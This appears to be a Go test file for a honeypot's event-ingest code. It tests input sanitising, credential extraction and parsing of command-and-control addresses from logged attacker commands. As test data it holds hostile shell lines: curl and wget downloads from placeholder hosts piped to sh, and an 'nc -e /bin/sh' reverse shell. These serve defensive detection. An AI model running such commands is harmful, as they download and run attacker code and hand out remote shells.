package ingest

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/decnet/decnet/internal/services"
)

var now = time.Date(2026, 6, 1, 12, 0, 0, 0, time.UTC)

func TestDecodeEventRejects(t *testing.T) {
	tests := []struct {
		name string
		in   string
	}{
		{"not json", `{"decky":`},
		{"missing kind", `{"decky":"d","service":"ssh"}`},
		{"bad src ip", `{"decky":"d","service":"ssh","kind":"connect","src_ip":"999.1.1.1"}`},
		{"too many fields", `{"decky":"d","service":"ssh","kind":"connect","fields":{` + manyFields(100) + `}}`},
		{"oversized", `{"decky":"` + strings.Repeat("a", MaxEventBytes) + `"}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := DecodeEvent([]byte(tt.in), "", now)
			if !errors.Is(err, ErrInvalidEvent) {
				t.Errorf("DecodeEvent(%.40q) error = %v, want ErrInvalidEvent", tt.in, err)
			}
		})
	}
}

func manyFields(n int) string {
	var parts []string
	for i := 0; i < n; i++ {
		parts = append(parts, `"k`+strings.Repeat("x", i)+`":"v"`)
	}
	return strings.Join(parts, ",")
}

func TestDecodeEventEscapesHostileText(t *testing.T) {
	raw, err := json.Marshal(map[string]any{
		"decky": "decky-01", "service": "ssh", "kind": "auth_attempt", "src_ip": "::ffff:127.0.0.7",
		"time":   now.Add(48 * time.Hour),
		"fields": map[string]string{"username": "ro\x00ot" + strings.Repeat("é", 5000)},
	})
	if err != nil {
		t.Fatal(err)
	}
	// json.Marshal already replaces invalid UTF-8; splice raw bytes in by hand.
	raw = []byte(strings.Replace(string(raw), "ro\\u0000ot", "ro\\u0000ot\xff\xfe", 1))

	e, err := DecodeEvent(raw, "", now)
	if err != nil {
		t.Fatalf("DecodeEvent: %v", err)
	}
	u := e.Fields["username"]
	if !utf8.ValidString(u) || strings.IndexByte(u, 0) >= 0 {
		t.Errorf("username not cleaned: %.40q", u)
	}
	if !strings.HasPrefix(u, `ro\x00ot`) {
		t.Errorf("username = %.40q, want prefix ro\\x00ot", u)
	}
	if len(u) > services.MaxFieldBytes {
		t.Errorf("username is %d bytes, want at most %d", len(u), services.MaxFieldBytes)
	}
	if e.SrcIP != "127.0.0.7" {
		t.Errorf("src_ip = %q, want unmapped 127.0.0.7", e.SrcIP)
	}
	if !e.Time.Equal(now) {
		t.Errorf("future time kept: %v, want %v", e.Time, now)
	}
	if e.ID == "" {
		t.Error("missing id not derived")
	}
}

func TestDecodeEventDerivedIDIsStable(t *testing.T) {
	raw := []byte(`{"decky":"d","service":"ssh","kind":"connect","src_ip":"127.0.0.1"}`)
	a, err := DecodeEvent(raw, "", now)
	if err != nil {
		t.Fatal(err)
	}
	b, err := DecodeEvent(raw, "", now.Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	if a.ID != b.ID {
		t.Errorf("ids differ for the same bytes: %q vs %q", a.ID, b.ID)
	}
}

func TestCleanEscapes(t *testing.T) {
	tests := []struct {
		in    string
		limit int
		want  string
	}{
		{"plain", 10, "plain"},
		{"a\xffb", 10, `a\xffb`},
		{"a\x00b", 10, `a\x00b`},
		{"héllo", 2, "h"},
		{"abcdef", 3, "abc"},
	}
	for _, tt := range tests {
		if got := clean(tt.in, tt.limit); got != tt.want {
			t.Errorf("clean(%q, %d) = %q, want %q", tt.in, tt.limit, got, tt.want)
		}
	}
}

func TestExtractC2(t *testing.T) {
	tests := []struct {
		line string
		want []string
	}{
		{"wget http://192.0.2.10/x.sh", []string{"http://192.0.2.10/x.sh", "192.0.2.10"}},
		{"cd /tmp; curl -fsSL -o a 'https://evil.example.com/a' && sh a", []string{"https://evil.example.com/a", "evil.example.com"}},
		{"busybox wget 198.51.100.3:8080/bins/arm7", []string{"198.51.100.3:8080/bins/arm7", "198.51.100.3"}},
		{"/usr/bin/nc -e /bin/sh 203.0.113.9 4444", []string{"203.0.113.9"}},
		{"tftp -g -r m.sh 203.0.113.5", []string{"203.0.113.5"}},
		{"ls -la /tmp", nil},
		{"echo wget http://192.0.2.1/", nil},
		{"curl -o out.txt", nil},
	}
	for _, tt := range tests {
		t.Run(tt.line, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, ExtractC2(tt.line)); diff != "" {
				t.Errorf("ExtractC2(%q) (-want +got):\n%s", tt.line, diff)
			}
		})
	}
}

func TestObserveCredential(t *testing.T) {
	tests := []struct {
		name       string
		fields     map[string]string
		wantSecret string
		wantNil    bool
	}{
		{"plaintext", map[string]string{"username": "root", "secret_b64": "dG9vcg=="}, "toor", false},
		{"not base64", map[string]string{"username": "root", "secret_b64": "!!"}, "", true},
		{"missing secret", map[string]string{"username": "root"}, "", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			o := Observe(services.Event{Kind: services.KindAuthAttempt, Fields: tt.fields})
			if tt.wantNil {
				if o.Credential != nil {
					t.Errorf("credential = %+v, want none", o.Credential)
				}
				return
			}
			if o.Credential == nil || string(o.Credential.Secret) != tt.wantSecret {
				t.Errorf("credential = %+v, want secret %q", o.Credential, tt.wantSecret)
			}
		})
	}
}

func FuzzDecodeEvent(f *testing.F) {
	f.Add([]byte(`{"id":"x","decky":"decky-01","service":"ssh","kind":"command","src_ip":"127.0.0.1","fields":{"command":"wget http://192.0.2.1/a"}}`))
	f.Add([]byte(`{"decky":"d","service":"http","kind":"request","src_ip":"::1","time":"2026-01-01T00:00:00Z","fields":{"body_size":"5","body_sha256":"ab"}}`))
	f.Add([]byte(`{"decky":"\u0000","service":"\xff","kind":"k","fields":{"\xfe":"\x00"}}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		e, err := DecodeEvent(data, "", now)
		if err != nil {
			return
		}
		for k, v := range e.Fields {
			if !utf8.ValidString(k) || !utf8.ValidString(v) || len(v) > services.MaxFieldBytes {
				t.Fatalf("field %q=%.40q not cleaned", k, v)
			}
		}
		if e.ID == "" || !utf8.ValidString(e.Decky) {
			t.Fatalf("event not normalised: %+v", e)
		}
		_ = Observe(e)
	})
}

func FuzzExtractC2(f *testing.F) {
	f.Add("wget http://192.0.2.10/x.sh; curl -O https://example.org/b")
	f.Add(`nc "203.0.113.1" 80 & echo 'a\'b'`)
	f.Fuzz(func(t *testing.T, line string) {
		if got := ExtractC2(line); len(got) > maxC2PerCommand {
			t.Fatalf("ExtractC2 returned %d endpoints, cap is %d", len(got), maxC2PerCommand)
		}
	})
}

func FuzzDecodeEnvelopeEvent(f *testing.F) {
	f.Add([]byte(`{"schema_version":1,"id":"e1","subject":"log.d.ssh","type":"service.event","payload":{"decky":"d","service":"ssh","kind":"command","src_ip":"127.0.0.1","fields":{"command":"id"}}}`))
	f.Add([]byte(`{"schema_version":2,"payload":{}}`))
	f.Add([]byte(`{"schema_version":1,"payload":{"decky":"\u0000","service":"s","kind":"k","src_ip":"::ffff:1.2.3.4"}}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		e, err := DecodeEnvelopeEvent(data, now)
		if err != nil {
			return
		}
		if e.ID == "" || e.Decky == "" || !utf8.ValidString(e.Decky) {
			t.Fatalf("event not normalised: %+v", e)
		}
		for k, v := range e.Fields {
			if !utf8.ValidString(k) || !utf8.ValidString(v) || len(v) > services.MaxFieldBytes {
				t.Fatalf("field %q=%.40q not cleaned", k, v)
			}
		}
	})
}

func TestDecodeEnvelopeEventUsesEnvelopeID(t *testing.T) {
	e, err := DecodeEnvelopeEvent([]byte(`{"schema_version":1,"id":"env-7","payload":{"decky":"d","service":"ssh","kind":"connect"}}`), now)
	if err != nil || e.ID != "env-7" {
		t.Errorf("DecodeEnvelopeEvent = %+v, %v; want id env-7", e, err)
	}
	if _, err := DecodeEnvelopeEvent([]byte(`{"schema_version":9,"payload":{"decky":"d","service":"ssh","kind":"connect"}}`), now); !errors.Is(err, ErrInvalidEvent) {
		t.Errorf("unknown schema version: %v, want ErrInvalidEvent", err)
	}
}
